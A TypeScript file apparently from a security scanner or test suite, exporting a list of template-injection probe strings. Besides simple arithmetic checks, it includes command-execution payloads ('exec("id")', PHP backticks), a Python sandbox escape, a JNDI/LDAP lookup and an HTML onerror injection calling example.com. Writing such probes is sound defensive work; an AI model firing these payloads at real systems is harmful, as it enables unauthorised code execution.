// biome-ignore-all lint/suspicious/noTemplateCurlyInString: a probe is text, not a template of ours
/** Probes that want a template to work out an expression of theirs. */
export const templateProbes: readonly string[] = [
  '{{7*7}}',
  '${7*7}',
  '<%= 7 * 7 %>',
  '#{7*7}',
  '{{constructor.constructor("return process")()}}',
  "{{ ''.__class__.__mro__[1].__subclasses__() }}",
  '{% for key in config %}{{ key }}{% endfor %}',
  '${T(java.lang.Runtime).getRuntime().exec("id")}',
  '%24%7B7*7%7D%7B%7B7*7%7D',
  '{php}echo `id`;{/php}',
  '*{7*7}@{7*7}~{7*7}',
  '{{#with "s" as |string|}}{{string.sub.constructor}}{{/with}}',
  '${jndi:ldap://example.com/probe}',
  'e3s3Kjd9fSAke3s3Kjd9fQ==',
  '&#123;&#123;7*7&#125;&#125;',
  '{{7*7}}${7*7}"><img src=http://example.com/probe onerror=probed=1>',
]
